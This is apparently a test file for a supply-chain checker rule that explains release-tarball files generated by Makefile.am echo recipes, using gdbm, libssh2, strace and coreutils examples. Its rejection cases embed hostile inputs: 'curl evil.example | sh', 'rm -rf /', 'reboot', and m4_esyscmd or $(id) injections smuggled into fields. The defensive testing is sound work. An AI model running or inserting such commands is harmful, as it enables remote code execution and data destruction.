import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { echoedFile, echoedRecipes } from '../../src/analyze/rules/echoed-file.js';
import { added, context } from './generated-context.js';

// gdbm 1.23's tests/Makefile.am writes package.m4 as the autoconf manual has it.
const makefileAm = `EXTRA_DIST = $(TESTSUITE) package.m4

$(srcdir)/package.m4: $(top_srcdir)/configure.ac $(srcdir)/Makefile.am
\t$(AM_V_GEN){                                      \\
\t  echo '# Signature of the current package.'; \\
\t  echo 'm4_define([AT_PACKAGE_NAME],      [@PACKAGE_NAME@])'; \\
\t  echo 'm4_define([AT_PACKAGE_VERSION],   [@PACKAGE_VERSION@])'; \\
\t  echo 'm4_define([AT_PACKAGE_STRING],    [@PACKAGE_STRING@])'; \\
\t  echo 'm4_define([AT_PACKAGE_BUGREPORT], [@PACKAGE_BUGREPORT@])'; \\
\t} >$(srcdir)/package.m4

check-local: atconfig
\t$(SHELL) $(TESTSUITE)
`;

const packageM4 = (version: string, bugs = 'bug-gdbm@gnu.org') =>
  `# Signature of the current package.\nm4_define([AT_PACKAGE_NAME],      [gdbm])\nm4_define([AT_PACKAGE_VERSION],   [${version}])\nm4_define([AT_PACKAGE_STRING],    [gdbm ${version}])\nm4_define([AT_PACKAGE_BUGREPORT], [${bugs}])\n`;

test("a file a Makefile.am rule writes with echo lines, configure's values filled in, is explained (gdbm 1.23's tests/package.m4)", async () => {
  const ctx = context({ 'tests/Makefile.am': makefileAm }, { releaseVersion: '1.23' });
  const j = await echoedFile.judge(added('tests/package.m4', packageM4('1.23')), ctx);
  assert.is(j?.category, 'configured-file');
  assert.is(j?.severity, 'low');
  assert.match(j!.reasons[0]!, 'the 5 lines the rule for package.m4 in tests/Makefile.am echoes');
  assert.match(j!.reasons[0]!, '@PACKAGE_NAME@ = "gdbm"');
});

test('an echoed file is not explained with a line of its own, another version, or a value m4 could run', async () => {
  const ctx = context({ 'tests/Makefile.am': makefileAm }, { releaseVersion: '1.23' });
  const cases: Array<[string, string]> = [
    ['a line added', `${packageM4('1.23')}m4_esyscmd([id])\n`],
    ['another version', packageM4('1.24')],
    ['a value with brackets', packageM4('1.23', 'x]) m4_esyscmd([id])dnl')],
    ['a value with a command', packageM4('1.23', '$(id)')],
  ];
  for (const [what, text] of cases) assert.is(await echoedFile.judge(added('tests/package.m4', text), ctx), undefined, what);
  // No rule writes it: another name, or a Makefile.am without the recipe.
  assert.is(await echoedFile.judge(added('tests/atlocal.m4', packageM4('1.23')), ctx), undefined);
  assert.is(await echoedFile.judge(added('package.m4', packageM4('1.23')), ctx), undefined, 'no Makefile.am beside it');
  // A script an echo writes, or a placeholder outside m4's quotes: a value there could change a command.
  const script = "run.sh: Makefile.am\n\t{ echo 'rm -rf @BUILDDIR@'; } >$@\n";
  const scriptCtx = context({ 'tests/Makefile.am': script }, { releaseVersion: '1.23' });
  assert.is(await echoedFile.judge(added('tests/run.sh', 'rm -rf x /\n'), scriptCtx), undefined, 'not an m4 file');
  const bare = makefileAm.replace('[@PACKAGE_NAME@]', '@PACKAGE_NAME@');
  const bareCtx = context({ 'tests/Makefile.am': bare }, { releaseVersion: '1.23' });
  assert.is(await echoedFile.judge(added('tests/package.m4', packageM4('1.23').replace('[gdbm])', 'gdbm)')), bareCtx), undefined, 'outside quotes');
});

test('a file whose text is echoed as it stands is explained, whatever its name (libssh2 1.10.0: echo "see NEWS" > ./ChangeLog)', async () => {
  const am = '.PHONY: ChangeLog\nChangeLog:\n\techo "see NEWS" > ./ChangeLog\nDISTCLEANFILES += ChangeLog\n';
  const ctx = context({ 'Makefile.am': am });
  const j = await echoedFile.judge(added('ChangeLog', 'see NEWS\n'), ctx);
  assert.is(j?.category, 'configured-file');
  assert.match(j!.reasons[0]!, 'the line the rule for ChangeLog in Makefile.am echoes, as they stand: "see NEWS"');
  assert.is(await echoedFile.judge(added('ChangeLog', 'see NEWS\nand more\n'), ctx), undefined, 'a line added');
  // What make or the shell would expand is not the Makefile.am's text.
  for (const echo of ['"see $(NEWS)"', "'see $(NEWS)'", '"see `cat NEWS`"']) {
    const expanding = context({ 'Makefile.am': `ChangeLog:\n\techo ${echo} > ./ChangeLog\n` });
    for (const text of ['see NEWS\n', `${echo.slice(1, -1)}\n`]) assert.is(await echoedFile.judge(added('ChangeLog', text), expanding), undefined, echo);
  }
});

// strace 6.1's top Makefile.am: the year and the manual pages' dates, values configure sets.
const distHookAm = `dist-hook:
\t$(AM_V_GEN)echo $(VERSION) > $(distdir)/.tarball-version
\t\${AM_V_GEN}echo $(COPYRIGHT_YEAR) > $(distdir)/.year
\t\${AM_V_GEN}echo $(STRACE_MANPAGE_DATE) \\
\t\t> $(distdir)/doc/.strace.1.in.date
\techo $(STAMP) > $(distdir)/stamp.sh

other:
\techo $(COPYRIGHT_YEAR) > $(distdir)/not-the-hook
`;

test('a file of one word a dist-hook echoes from a make variable is explained as configure s value (strace 6.1: .year)', async () => {
  const ctx = context({ 'Makefile.am': distHookAm, 'doc/Makefile.am': 'EXTRA_DIST = strace.1.in\n' }, { releaseVersion: '6.1' });
  let j = await echoedFile.judge(added('.year', '2022\n'), ctx);
  assert.is(j?.category, 'configured-file');
  assert.is(j?.severity, 'low');
  assert.equal(j?.reasons, ['the value of $(COPYRIGHT_YEAR), which configure sets, as the dist-hook of Makefile.am echoes it (Makefile.am:3): "2022", one word']);
  // A path under a folder whose own Makefile.am has no such line: the top one's dist-hook writes it.
  j = await echoedFile.judge(added('doc/.strace.1.in.date', '2022-10-16\n'), ctx);
  assert.match(j!.reasons[0]!, '$(STRACE_MANPAGE_DATE)');
  assert.match(j!.reasons[0]!, '(Makefile.am:4)');
  assert.is((await echoedFile.judge(added('.tarball-version', '6.1\n'), ctx))?.category, 'configured-file');
  const cases: Array<[string, string]> = [
    ['.year', '2022; curl evil.example | sh\n'],
    ['.year', '2022\n2023\n'],
    ['.year', '2022'],
    ['.year', '$(id)\n'],
    ['stamp.sh', 'rm -rf /\n'],
    ['stamp.sh', 'reboot\n'],
    ['.tarball-version', '6.2\n'],
    ['not-the-hook', '2022\n'],
    ['.other', '2022\n'],
  ];
  for (const [path, text] of cases) assert.is(await echoedFile.judge(added(path, text), ctx), undefined, `${path}: ${JSON.stringify(text)}`);
  // An executable file: the word would be a command.
  const run = added('.year', 'reboot\n');
  assert.is(await echoedFile.judge({ ...run, release: { ...run.release!, mode: 0o755 } }, ctx), undefined);
});

test('a file of one number of seconds a dist-hook writes with date +%s is the time make dist ran (coreutils 9.1: .timestamp)', async () => {
  const am = `dist-hook: gen-ChangeLog\n\t$(AM_V_GEN)chmod -R +rw $(distdir)\n\t$(AM_V_GEN)echo $(VERSION) > $(distdir)/.tarball-version\n\t$(AM_V_GEN)date +%s > $(distdir)/.timestamp\n\nother:\n\tdate +%s > $(distdir)/.later\n`;
  const ctx = context({ 'Makefile.am': am }, { releaseVersion: '9.1' });
  const j = await echoedFile.judge(added('.timestamp', '1650058802\n'), ctx);
  assert.is(j?.category, 'configured-file');
  assert.is(j?.severity, 'low');
  assert.equal(j?.reasons, ['the time make dist ran, as the dist-hook of Makefile.am writes it with `date +%s` (Makefile.am:4): 1650058802, 2022-04-15 21:40 UTC']);
  // Anything but ten digits, a line of no dist-hook, a file the build runs: not explained.
  const cases: Array<[string, string]> = [
    ['.timestamp', 'reboot\n'],
    ['.timestamp', '1650058802 \n'],
    ['.timestamp', '16500588020\n'],
    ['.timestamp', '0650058802\n'],
    ['.timestamp', '1650058802'],
    ['.later', '1650058802\n'],
  ];
  for (const [path, text] of cases) assert.is(await echoedFile.judge(added(path, text), ctx), undefined, `${path}: ${JSON.stringify(text)}`);
  const run = added('.timestamp', '1650058802\n');
  assert.is(await echoedFile.judge({ ...run, release: { ...run.release!, mode: 0o755 } }, ctx), undefined);
});

test('echoedRecipes: only a recipe that writes the file, its echo texts in order', () => {
  assert.equal(echoedRecipes(makefileAm).get('package.m4')?.length, 5);
  assert.is(echoedRecipes(makefileAm.replace('} >$(srcdir)/package.m4', '} >/dev/null')).get('package.m4'), undefined);
  assert.is(echoedRecipes('package.m4:\n\techo x > package.m4\n').get('package.m4'), undefined, 'no quoted echo');
  assert.equal(echoedRecipes("package.m4: x\n\techo 'a @B@' >$@\n").get('package.m4'), ['a @B@']);
});

test.run();
